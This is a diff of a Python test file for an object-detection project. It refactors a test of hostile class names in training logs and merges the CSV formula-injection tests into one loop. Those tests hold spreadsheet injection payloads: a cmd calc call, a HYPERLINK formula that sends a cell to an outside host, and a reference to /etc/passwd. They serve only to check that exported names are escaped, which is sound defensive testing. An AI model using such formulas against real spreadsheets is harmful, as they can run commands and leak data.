@@ -11,7 +11,6 @@ from pathlib import Path
 
 import numpy as np
 import pytest
-import pytorch_lightning as pl
 from hypothesis import given, settings
 from hypothesis import strategies as st
 from matplotlib.cbook import is_math_text
@@ -19,7 +18,7 @@ from PIL import Image, ImageChops
 from pytorch_lightning.loggers import TensorBoardLogger
 
 from data import open_dataset
-from data.dataset import Annotation, Dataset
+from data.dataset import Dataset
 from data.loader import make_loader
 from data.source import DataSource, describe_splits
 from evaluation.figures import short
@@ -31,9 +30,10 @@ from model.training.run_recorder import RunRecorder
 from prediction import output_files as prediction_files
 from prediction.inference import Prediction
 from prediction.output_files import Results, csv_line
-from tests.data_sets import draw_image, write_text
+from tests.data_sets import annotation, draw_image, write_text
 from tests.evaluation.pages import metrics_of, outside, page_of
 from tests.image_results import random_results
+from tests.memory_data import quiet_trainer
 from tests.small_models import SIDE
 from utils.console import harmless, progress_bar, say, show_table
 from utils.run_folder import write_json
@@ -154,25 +154,17 @@ def test_a_run_of_hostile_names_logs_none_of_them_and_its_checkpoint_keeps_them(
 ) -> None:
     from tensorboard.backend.event_processing.event_accumulator import EventAccumulator
 
-    records = []
-    for number, name in enumerate(NAMES):
-        path = draw_image(tmp_path / "data" / f"{number}.png")
-        one = np.array([[4, 6, 20, 30]], dtype=np.float32)
-        records.append(Annotation(path, one, (name,), np.zeros(1, dtype=bool)))
-    dataset = Dataset(records, NAMES)
+    paths = [draw_image(tmp_path / "data" / f"{number}.png") for number in range(len(NAMES))]
+    things = [[(name, 4, 6, 20, 30)] for name in NAMES]
+    dataset = Dataset(list(map(annotation, paths, things)), NAMES)
     description = DetectorDescription("efficientnet-b0", NAMES, SIDE, anchor_scale=0.25)
     module = DetectorModule(description.build(), NAMES, Recipe(), description.as_plain())
-    trainer = pl.Trainer(
-        accelerator="cpu",
+    trainer = quiet_trainer(
         max_epochs=1,
         limit_train_batches=1,
         log_every_n_steps=1,
         logger=TensorBoardLogger(tmp_path, name="", version=""),
         callbacks=[RunRecorder(tmp_path, description)],
-        enable_checkpointing=False,
-        enable_progress_bar=False,
-        enable_model_summary=False,
-        num_sanity_val_steps=0,
     )
     trainer.fit(module, make_loader(dataset, 2), make_loader(dataset.subset([0, 1]), 2))
     assert_lines_are_harmless(capsys.readouterr().out)
@@ -211,29 +203,14 @@ def test_the_tables_of_a_prediction_hold_every_name_in_one_cell_and_json_as_it_i
     assert len(list((tmp_path / "images").iterdir())) == len(NAMES)
 
 
-FORMULAS = (
-    "=cmd|' /C calc'!A0",
-    '=HYPERLINK("http://x/?"&A1,"ace")',
-    "+SUM(A1:A9)",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1)",
-    "\t=SUM(1)",
-    "\r\n=SUM(1)",
-    "\uff1dSUM(1)",
-    "='file:///etc/passwd'#$A.A1",
-)
-NO_FORMULAS = ("ace", "+", "-", "=", "@", "-1.jpg", "+18", "@home", "a=b(c)", "1-2(3)", "[=x(1)]")
-
-
-@pytest.mark.parametrize("name", FORMULAS)
-def test_a_spreadsheet_takes_no_name_for_a_formula(name: str) -> None:
-    (row,) = csv.reader(io.StringIO(csv_line(name, 0.5, -3.25), newline=""))
-    assert row == ["'" + name, "0.5", "-3.25"]
-
-
-@pytest.mark.parametrize("name", NO_FORMULAS)
-def test_a_name_that_is_no_formula_is_written_as_it_is(name: str) -> None:
-    assert next(csv.reader([csv_line(name)])) == [name]
+def test_a_spreadsheet_takes_no_name_for_a_formula_and_others_are_written_as_they_are() -> None:
+    formulas = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x/?"&A1,"ace")', "+SUM(A1:A9)", "@SUM(1)"]
+    formulas += ["-2+3+cmd|' /C calc'!A0", "\t=SUM(1)", "\r\n=SUM(1)", "\uff1dSUM(1)"]
+    formulas += ["='file:///etc/passwd'#$A.A1"]
+    others = ["ace", "+", "-", "=", "@", "-1.jpg", "+18", "@home", "a=b(c)", "1-2(3)", "[=x(1)]"]
+    for name in [*formulas, *others]:
+        (row,) = csv.reader(io.StringIO(csv_line(name, 0.5, -3.25), newline=""))
+        assert row == ["'" + name if name in formulas else name, "0.5", "-3.25"]
 
 
 @several
